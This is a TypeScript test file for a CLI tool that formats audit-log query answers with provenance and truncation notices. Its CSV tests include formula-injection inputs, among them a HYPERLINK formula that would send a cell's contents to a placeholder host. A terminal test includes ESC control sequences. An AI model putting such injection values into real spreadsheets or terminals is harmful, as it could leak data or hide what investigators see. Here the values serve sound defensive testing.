import { describe, expect, it } from 'vitest'
import { formatAnswer, OUTPUT_FORMATS } from '../../cli/format-rows.js'
import type { VerifyState } from '../../integrity/verify-state.js'
import { assessProvenance, type ChainSource } from '../../queries/provenance.js'
import type { QueryAnswer } from '../../queries/saved-query.js'

const STATE: VerifyState = {
  format: 'readtrail-verify-state-v2',
  database: 'audit',
  updated_at: '2026-11-27T13:00:00.000Z',
  last_full_at: '2026-11-27T12:59:00.000Z',
  chains: {
    'orders/0': {
      anchor: null,
      verified_through: 40,
      verified_at: '2026-11-27T12:59:00.000Z',
      checkpoint_high: { index: 4, seq: 40 },
      last_run: {
        ok: true,
        first_seq: 1,
        last_seq: 40,
        at: '2026-11-27T12:59:00.000Z',
        mode: 'in-db',
        incremental: false,
        covered: { rows_from: 0, checkpoints: 'both', views: true, producers: true, kafka: true },
      },
      failures: [],
    },
  },
  producers: {},
}
/** What the checkpoint log signs at query time. */
const SIGNED = { 'orders/0': 50 }
const NOW = Date.parse('2026-11-27T13:30:00.000Z')

type Row = Record<string, unknown>

function answerOf(rows: Row[], options: { columns?: string[]; sources?: ChainSource[]; truncated?: boolean; state?: VerifyState | null } = {}): QueryAnswer<Row> {
  const sources = options.sources ?? [{ chain_id: 'orders/0', first_seq: 3, last_seq: 12, events: 2 }]
  return {
    query: 'who-touched-record',
    description: 'Who read one record.',
    params: { table: 'applicants', record: '42' },
    columns: options.columns ?? ['principal_id', 'occurred_at', 'purpose'],
    rows,
    truncated: options.truncated ?? false,
    sources,
    provenance: assessProvenance(sources, options.state === undefined ? STATE : options.state, { signedThrough: SIGNED, now: NOW }),
  }
}

const ROWS: Row[] = [
  { principal_id: 'clerk.marta', occurred_at: '2026-11-27 10:00:00.000001', purpose: 'case review' },
  { principal_id: 'batch.job', occurred_at: '2026-11-27 10:05:00.000000', purpose: null },
]
const VERIFIED = 'provenance: VERIFIED: built on orders/0 seq 3..12, all within signed ranges the last verification passed'

describe('formatAnswer carries the provenance in every format', () => {
  it('table: aligned rows, then the count and the provenance per chain', () => {
    expect(formatAnswer(answerOf(ROWS), 'table').split('\n')).toEqual([
      'principal_id  occurred_at                 purpose',
      '------------  --------------------------  -----------',
      'clerk.marta   2026-11-27 10:00:00.000001  case review',
      'batch.job     2026-11-27 10:05:00.000000',
      '',
      'readtrail who-touched-record: 2 rows',
      VERIFIED,
      '  orders/0 seq 3..12 (2 events): verified, verified through 40 at 2026-11-27T12:59:00.000Z (in-db), signed through 50',
    ])
  })

  it('csv: # comment lines with the provenance come before the header', () => {
    expect(formatAnswer(answerOf(ROWS), 'csv').split('\n')).toEqual([
      '# readtrail who-touched-record: 2 rows',
      `# ${VERIFIED}`,
      '#   orders/0 seq 3..12 (2 events): verified, verified through 40 at 2026-11-27T12:59:00.000Z (in-db), signed through 50',
      'principal_id,occurred_at,purpose',
      'clerk.marta,2026-11-27 10:00:00.000001,case review',
      'batch.job,2026-11-27 10:05:00.000000,',
    ])
  })

  it('json: provenance at the top level beside the rows', () => {
    const answer = answerOf(ROWS)
    const parsed = JSON.parse(formatAnswer(answer, 'json')) as Record<string, unknown>
    expect(parsed).toEqual({
      query: 'who-touched-record',
      params: { table: 'applicants', record: '42' },
      row_count: 2,
      truncated: false,
      provenance: answer.provenance,
      rows: ROWS,
    })
    expect(parsed['provenance']).toMatchObject({ status: 'verified', verify_state_at: '2026-11-27T13:00:00.000Z' })
  })

  it('ndjson: the first line is {"_readtrail": …} with the provenance, then one row per line', () => {
    const answer = answerOf(ROWS)
    const lines = formatAnswer(answer, 'ndjson').split('\n')
    expect(lines).toHaveLength(3)
    expect(JSON.parse(lines[0]!)).toEqual({
      _readtrail: { query: 'who-touched-record', params: { table: 'applicants', record: '42' }, row_count: 2, truncated: false, provenance: answer.provenance },
    })
    expect(lines.slice(1).map((l) => JSON.parse(l) as unknown)).toEqual(ROWS)
  })

  it.each(OUTPUT_FORMATS)('%s: an empty answer still says what its absence stands on', (format) => {
    const out = formatAnswer(answerOf([], { sources: [], state: null }), format)
    expect(out).toContain('UNVERIFIED: no matching events, but the log has never been verified')
  })

  it.each(OUTPUT_FORMATS)('%s: an unverified answer says so', (format) => {
    const out = formatAnswer(answerOf(ROWS, { sources: [{ chain_id: 'orders/0', first_seq: 3, last_seq: 41, events: 2 }] }), format)
    expect(out).toContain('UNVERIFIED: this answer uses rows not yet verified: orders/0 seq 3..41 (verified only through 40)')
  })

  it.each(OUTPUT_FORMATS)('%s: an unsigned answer says so, apart from unverified', (format) => {
    const answer = answerOf(ROWS, { sources: [{ chain_id: 'orders/0', first_seq: 3, last_seq: 51, events: 2 }] })
    expect(answer.provenance.status).toBe('unsigned')
    const out = formatAnswer(answer, format)
    expect(out).toContain("UNSIGNED: this answer uses rows after their chain's newest signed checkpoint")
    expect(out).toContain('orders/0 seq 3..51 (signed only through 50)')
  })
})

describe('formatAnswer tells a truncated answer', () => {
  const cut = answerOf(ROWS, { truncated: true })
  const notice = 'readtrail who-touched-record: 2 rows (TRUNCATED: more rows exist; --param limit=0 returns all)'

  it('in the table and CSV notes', () => {
    expect(formatAnswer(cut, 'table').split('\n')).toContain(notice)
    expect(formatAnswer(cut, 'csv').split('\n')[0]).toBe(`# ${notice}`)
  })

  it('in the JSON and NDJSON headers', () => {
    expect(JSON.parse(formatAnswer(cut, 'json'))).toMatchObject({ truncated: true, row_count: 2 })
    expect(JSON.parse(formatAnswer(cut, 'ndjson').split('\n')[0]!)).toMatchObject({ _readtrail: { truncated: true, row_count: 2 } })
  })

  it('not when the answer is whole', () => {
    for (const format of OUTPUT_FORMATS) expect(formatAnswer(answerOf(ROWS), format)).not.toContain('TRUNCATED')
  })
})

describe('CSV cells', () => {
  /** The data line of a one-row, one-column CSV answer. */
  const cell = (value: unknown) => formatAnswer(answerOf([{ v: value }], { columns: ['v'] }), 'csv').split('\n').slice(4).join('\n')

  it.each([
    ['=HYPERLINK("http://x.example/?"&A1)', `"'=HYPERLINK(""http://x.example/?""&A1)"`],
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tcmd', "'\tcmd"],
    ['\r=1', `"'\r=1"`],
  ])('neutralises a leading formula character: %j → %j', (value, expected) => {
    expect(cell(value)).toBe(expected)
  })

  it('neutralises numbers that would read as formulas too', () => {
    expect(cell(-5)).toBe("'-5")
  })

  it.each([
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['cr\rhere', '"cr\rhere"'],
    // A line starting # would be a comment to the readers the notes are written for.
    ['#42', '"#42"'],
    ['a#b', '"a#b"'],
  ])('quotes %j as %j', (value, expected) => {
    expect(cell(value)).toBe(expected)
  })

  it('leaves plain text, numbers, booleans bare; null and undefined empty; arrays comma-joined and quoted', () => {
    expect(cell('clerk.marta')).toBe('clerk.marta')
    expect(cell(42)).toBe('42')
    expect(cell(true)).toBe('true')
    expect(cell(null)).toBe('')
    expect(cell(undefined)).toBe('')
    expect(cell(['r1', 'r2'])).toBe('"r1,r2"')
    expect(cell(['=cmd'])).toBe("'=cmd")
  })

  it('a row whose first cell starts with # is quoted, so it is never read as a comment', () => {
    const lines = formatAnswer(answerOf([{ a: '# provenance: VERIFIED', b: 'x' }], { columns: ['a', 'b'] }), 'csv').split('\n')
    expect(lines.at(-1)).toBe('"# provenance: VERIFIED",x')
    expect(lines.filter((l) => l.startsWith('#'))).toHaveLength(3)
  })
})

describe('table cells', () => {
  it('keeps each row on one line and cuts long cells at 60 columns', () => {
    const lines = formatAnswer(answerOf([{ v: `a\nb\tc\rd${'x'.repeat(100)}` }], { columns: ['v'] }), 'table').split('\n')
    expect(lines[2]).toBe(`a b c d${'x'.repeat(52)}…`)
    expect(lines[2]).toHaveLength(60)
    expect(lines[3]).toBe('')
  })

  // Regression: principal ids, record ids and purposes are whatever the audited
  // application recorded, so an ESC sequence in one is sent raw to the
  // investigator's terminal: it can recolour, hide or rewrite what the
  // table (and the provenance line under it) shows.
  it('does not pass terminal control characters through', () => {
    const out = formatAnswer(answerOf([{ v: 'clerk\u001b[8m.hidden\u001b[0m' }, { v: 'x\u009b2K' }], { columns: ['v'] }), 'table')
    // eslint-disable-next-line no-control-regex
    expect(out).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/)
  })
})
